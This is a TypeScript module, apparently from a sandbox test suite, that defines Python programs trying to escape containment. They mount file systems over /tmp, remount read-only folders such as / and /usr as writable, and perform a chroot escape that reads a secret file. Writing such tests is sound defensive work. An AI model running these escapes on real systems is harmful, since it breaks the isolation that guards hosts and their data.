import { type Attack, python } from './attack.ts';

/** Names for the attacks on mounts; where it may, a program attacks a mount namespace of its own. */
const mounting = python`
CLONE_NEWNS, MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE, MNT_DETACH = 0x20000, 1, 32, 4096, 16384, 1 << 18, 2
def mount(source, target, kind, flags, data=None):
    text = lambda value: None if value is None else value.encode()
    return check(libc.mount(text(source), text(target), text(kind), ctypes.c_ulong(flags), text(data)))
if libc.unshare(CLONE_NEWNS) == 0: mount(None, '/', None, MS_REC | MS_PRIVATE)
`;

/** Programs that change what the file system looks like, or leave their part of it. All but the last need root. */
export const mounts: readonly Attack[] = [
  {
    name: 'mounts a file system',
    needsRoot: true,
    program: python`${mounting}
try_all([lambda kind=kind: mount('none', '/tmp', kind, 0) == 0 for kind in ['tmpfs', 'proc', 'sysfs', 'ramfs', 'devpts']])`,
  },
  {
    name: 'makes a read-only mount writable',
    needsRoot: true,
    program: python`${mounting}
try:
    mount(FOLDER, FOLDER, None, MS_BIND)
    mount(None, FOLDER, None, MS_REMOUNT | MS_BIND | MS_RDONLY)
except OSError: pass
def write(folder):
    mount(None, folder, None, MS_REMOUNT | MS_BIND)
    open(folder + '/' + OWN, 'w').close()
    os.unlink(folder + '/' + OWN)
    return True
try_all([lambda folder=folder: write(folder) for folder in [FOLDER, '/', '/usr', '/dev', '/proc']])`,
  },
  {
    name: 'leaves its root by chroot',
    needsRoot: true,
    program: python`
inner = '/tmp/' + OWN
os.mkdir(inner)
try:
    outside = os.open('/', os.O_RDONLY)
    os.chroot(inner)
    os.fchdir(outside)
    for _ in range(50): os.chdir('..')
    os.chroot('.')
    if open(SECRET_FILE).read(): succeeded()
finally: os.rmdir(inner)`,
  },
];
